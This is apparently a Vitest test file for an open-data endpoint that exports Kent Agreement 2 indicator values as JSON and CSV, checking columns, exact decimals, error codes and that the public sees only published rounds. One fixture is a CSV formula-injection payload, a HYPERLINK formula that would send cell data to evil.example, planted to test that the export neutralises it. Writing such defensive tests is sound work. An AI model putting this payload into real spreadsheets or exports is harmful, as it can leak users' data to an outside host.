/**
 * Open data (issue 10 §1) on the demo as loaded, PGlite and PostgreSQL: Kent Agreement 2's
 * baselines, targets and values as one tidy table in JSON and CSV, the columns the data
 * dictionary describes, exact decimals, formula-safe CSV, and the public seeing only the values
 * of published rounds (2008/09 H1 and H2), never the open 2009/10 H1.
 */
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDataColumns } from "@accord/domain";
import type { OpenDataView } from "../src/features/open-data/schema.js";
import { createTestApp } from "./support/app.js";
import type { TestApp } from "./support/app.js";
import { send, signIn } from "./support/session.js";
import type { Session } from "./support/session.js";
import { queryRows } from "./support/sql.js";

let api: TestApp;
let manager: Session;
let viewer: Session;
const ka2 = "/api/agreements/kent-ka2";
const thanet = "E07000114";
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Thanet")';
const exact = "12345678901234567890.123456789";

beforeAll(async () => {
  api = await createTestApp();
  manager = await signIn(api.app, "manager@kent-partnership.example");
  viewer = await signIn(api.app, "member@kent.example");
  // Thanet's NI 47 value in the published 2008/09 H1: a figure no float holds, and a source typed as a formula.
  await api.database.db.execute(sql`
    update observations set value = ${exact}, source = ${formula}
    where agreement_indicator_id = (select ai.id from agreement_indicators ai join agreements a on a.id = ai.agreement_id
        join indicator_definitions d on d.id = ai.indicator_id where a.slug = 'kent-ka2' and d.code = 'NI 47')
      and area_id = (select id from areas where code = ${thanet})
      and period_id = (select id from reporting_periods where label = '2008/09 H1')`);
});
afterAll(async () => {
  await api?.close();
});

async function openData(session: Session | null, query = ""): Promise<OpenDataView> {
  const answer = await send(api.app, session, { method: "GET", url: `${ka2}/data.json${query}` });
  expect(answer.status, JSON.stringify(answer.body)).toBe(200);
  return answer.json<OpenDataView>();
}

async function csvRows(session: Session | null, query = ""): Promise<{ header: string[]; rows: Record<string, string>[]; body: string }> {
  const answer = await api.app.inject({ method: "GET", url: `${ka2}/data.csv${query}`, headers: session ? { cookie: session.cookie } : {} });
  expect(answer.statusCode, answer.body).toBe(200);
  expect(answer.headers["content-type"]).toMatch(/^text\/csv/);
  const records = parse(answer.body, { bom: true }) as string[][];
  const [header = [], ...lines] = records;
  return { header, rows: lines.map((line) => Object.fromEntries(header.map((name, index) => [name, line[index] ?? ""]))), body: answer.body };
}

const observedPeriods = (view: OpenDataView) => [...new Set(view.values.filter((row) => row.measure === "observation").map((row) => row.period))].sort();

describe("GET /api/agreements/:slug/data.json", () => {
  it("gives every column the data dictionary describes, and NI 47's baseline and target as the agreement has them", async () => {
    const view = await openData(null);
    expect(view.agreement).toMatchObject({ slug: "kent-ka2", area: { code: "E10000016", name: "Kent" } });
    expect(view.dictionary).toBe("/agreements/kent-ka2/data-dictionary");
    for (const row of view.values) expect(Object.keys(row).sort()).toEqual(openDataColumns.map((column) => column.name).sort());
    const ni47 = view.values.filter((row) => row.indicator_code === "NI 47");
    expect(ni47.find((row) => row.measure === "baseline")).toMatchObject({ value: "1183", written: "1183", area_code: "E10000016", status: "known" });
    // 1183 less 50% is 591.5, exactly; the agreement printed 592, which its wording keeps.
    expect(ni47.find((row) => row.measure === "target")).toMatchObject({
      period: "2010/11",
      period_start: "2010-04-01",
      period_end: "2011-03-31",
      value: "591.5",
      written: "Proposed at 592 (50% reduction)",
      status: "under-discussion",
    });
    expect(view.indicators.find((indicator) => indicator.code === "NI 47")).toMatchObject({ key: "ni-47", kind: "designated", polarity: "lower-is-better" });
  });

  it("shows the public the values of published rounds only, never the open 2009/10 H1", async () => {
    const view = await openData(null);
    expect(view.publishedRoundsOnly).toBe(true);
    expect(observedPeriods(view)).toEqual(["2008/09 H1", "2008/09 H2"]);
  });

  it("shows people with a role in the agreement the open round's values too", async () => {
    for (const session of [manager, viewer]) {
      const view = await openData(session);
      expect(view.publishedRoundsOnly).toBe(false);
      expect(observedPeriods(view)).toEqual(["2008/09 H1", "2008/09 H2", "2009/10 H1"]);
    }
  });

  it("keeps every figure exact and every value's own period, area and dates", async () => {
    const view = await openData(null, "?indicator=ni-47&measure=observation");
    expect(new Set(view.values.map((row) => row.measure))).toEqual(new Set(["observation"]));
    expect(new Set(view.values.map((row) => row.indicator_code))).toEqual(new Set(["NI 47"]));
    const thanetH1 = view.values.find((row) => row.area_code === thanet && row.period === "2008/09 H1");
    expect(thanetH1).toMatchObject({ area_name: "Thanet", value: exact, source: formula, period_start: "2008-04-01", period_end: "2008-09-30" });
    // As many values as the database holds for NI 47 in the published rounds.
    const [stored] = await queryRows(
      api.database.db,
      sql`select count(*)::int as n from observations o join agreement_indicators ai on ai.id = o.agreement_indicator_id
        join indicator_definitions d on d.id = ai.indicator_id join reporting_periods p on p.id = o.period_id
        where d.code = 'NI 47' and p.label in ('2008/09 H1', '2008/09 H2')`,
    );
    expect(view.values.length).toBe(stored?.n);
  });

  it("answers 404 naming the agreement or the indicator that is not there", async () => {
    const agreement = await send(api.app, null, { method: "GET", url: "/api/agreements/kent-ka9/data.json" });
    expect(agreement.status).toBe(404);
    expect(agreement.json<{ error: { field: string } }>().error.field).toBe("slug");
    const indicator = await send(api.app, null, { method: "GET", url: `${ka2}/data.json?indicator=ni-999` });
    expect(indicator.status).toBe(404);
    expect(indicator.json<{ error: { field: string; message: string } }>().error).toMatchObject({ field: "indicator", message: expect.stringMatching(/ni-999/) });
  });

  it("answers 400 naming the query parameter at fault", async () => {
    for (const [query, field] of [
      ["?measure=forecast", "measure"],
      ["?indicator=NI%2047", "indicator"],
      ["?colour=red", "colour"],
    ] as const) {
      for (const file of ["data.json", "data.csv"]) {
        const answer = await send(api.app, null, { method: "GET", url: `${ka2}/${file}${query}` });
        expect(answer.status, `${file}${query}`).toBe(400);
        expect(JSON.stringify(answer.body), `${file}${query}`).toContain(field);
      }
    }
  });
});

describe("GET /api/agreements/:slug/data.csv", () => {
  it("holds the same rows as the JSON, headed by the dictionary's column names", async () => {
    const view = await openData(null);
    const { header, rows } = await csvRows(null);
    expect(header).toEqual(openDataColumns.map((column) => column.name));
    expect(rows.length).toBe(view.values.length);
    const thanetH1 = rows.find((row) => row.indicator_code === "NI 47" && row.area_code === thanet && row.period === "2008/09 H1");
    expect(thanetH1?.value).toBe(exact);
    const target = rows.find((row) => row.indicator_code === "NI 47" && row.measure === "target");
    expect(target).toMatchObject({ value: "591.5", period: "2010/11", numerator: "", written: "Proposed at 592 (50% reduction)" });
  });

  it("neutralises a source typed as a formula", async () => {
    const { rows, body } = await csvRows(null, "?indicator=ni-47");
    expect(rows.find((row) => row.area_code === thanet && row.period === "2008/09 H1")?.source).toBe(`'${formula}`);
    expect(body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("shows the public published rounds only, and the manager the open round too", async () => {
    const periods = (rows: Record<string, string>[]) => [...new Set(rows.filter((row) => row.measure === "observation").map((row) => row.period))].sort();
    expect(periods((await csvRows(null)).rows)).toEqual(["2008/09 H1", "2008/09 H2"]);
    expect(periods((await csvRows(manager)).rows)).toEqual(["2008/09 H1", "2008/09 H2", "2009/10 H1"]);
  });

  it("is named for the agreement and what it was narrowed to", async () => {
    const answer = await api.app.inject({ method: "GET", url: `${ka2}/data.csv?indicator=ni-47&measure=target` });
    expect(answer.headers["content-disposition"]).toBe('attachment; filename="kent-ka2-data-ni-47-target.csv"');
    const records = parse(answer.body, { bom: true }) as string[][];
    expect(records.length).toBe(2);
  });
});
